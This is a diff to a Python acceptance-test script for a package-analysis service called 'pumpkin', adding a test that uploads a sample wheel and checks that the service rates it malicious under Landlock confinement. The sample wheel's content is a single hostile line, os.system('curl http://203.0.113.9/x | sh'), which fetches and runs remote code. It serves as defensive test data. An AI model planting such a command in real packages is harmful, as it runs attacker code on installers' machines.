@@ -5,6 +5,7 @@ usage: python -m scripts.trials.unit [FILE] (of the same commit: no older one st
 
 from __future__ import annotations
 
+import ctypes
 import json
 import os
 import re
@@ -21,10 +22,12 @@ from typing import Any
 
 from pumpkin.adapters.engines.base import _mirror
 from tests.acceptance.product import ROOT
+from tests.sandbox.samples import wheel
 
 UNIT = ROOT / "docs" / "deploy" / "pumpkin.service"
 TOOLS = Path(sys.executable).parent
 BRINGS = "systemd,systemd-sysv,dbus,python3,python3-venv,curl"
+LANDLOCK = ctypes.CDLL(None).syscall(444, None, 0, 1) >= 1  # landlock_create_ruleset(2): the kernel's version of it
 URL = "http://127.0.0.1:8000"
 ENVIRONMENT = {
     "PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
@@ -206,7 +209,11 @@ def accept_start(machine: Machine) -> str:
     check(True, f"systemctl enable --now pumpkin: ready after {took:.1f} s")
     rated = RATING.search(machine.run("systemd-analyze", "security", "--no-pager", "pumpkin"))
     check(rated and float(rated[1]) <= 1.7, f"systemd-analyze security: {rated and ' '.join(rated.groups())}")
-    add = ["key", "add", "--name", "unit", "--scope", "checks:write", "--scope", "checks:read", "--json"]
+    return make_key(machine, "checks:write", "checks:read")
+
+
+def make_key(machine: Machine, *scopes: str) -> str:
+    add = ["key", "add", "--name", "unit", *(word for one in scopes for word in ("--scope", one)), "--json"]
     said = machine.run(
         "runuser", "-u", "pumpkin", "--", "/opt/pumpkin/.venv/bin/pumpkin", *add, "--data", "/var/lib/pumpkin"
     )
@@ -233,6 +240,26 @@ def accept_hardened(machine: Machine) -> None:
     check(
         "sda" not in said and "kmsg" not in said and "null" in said, "no home folder, no device but the harmless ones"
     )
+
+
+def accept_package(machine: Machine) -> None:
+    """The workers that read packages can shut themselves in, whatever the unit forbids the rest."""
+    name, content = wheel("unit", "import os\nos.system('curl http://203.0.113.9/x | sh')\n")
+    (machine.root / "opt" / name).write_bytes(content)
+    key = make_key(machine, "packages:write", "packages:read")
+    put = ["curl", "--silent", "--header", f"Authorization: Bearer {key}", "--form", f"file=@/opt/{name}"]
+    task = json.loads(machine.run(*put, f"{URL}/api/v1/upload/"))["data"]["uuid"]
+    found: dict[str, Any] = {}
+
+    def ended() -> bool:
+        found.update(json.loads(machine.ask(f"/api/v1/task/{task}/", key)[1])["data"])
+        return found["status"] in ("completed", "failed")
+
+    until(ended, "a package's report", 60)
+    verdict = found["verdict"]
+    check(found["outcome"] == "malicious", f"a package is analysed: {found['outcome']}, {verdict['why'][0]}", found)
+    shut = not LANDLOCK or not any("Landlock" in one for one in verdict["not_checked"])
+    check(shut, f"by a worker that Landlock confines; not checked: {verdict['not_checked']}")
 
 
 def accept_killed(machine: Machine, key: str) -> None:
@@ -279,6 +306,7 @@ def main() -> int:
         check(True, f"systemd {machine.run('systemctl', '--version').split()[1]} booted an empty Debian as process 1")
         key = accept_start(machine)
         accept_hardened(machine)
+        accept_package(machine)
         accept_killed(machine, key)
         accept_journal(machine)
         accept_stop(machine)
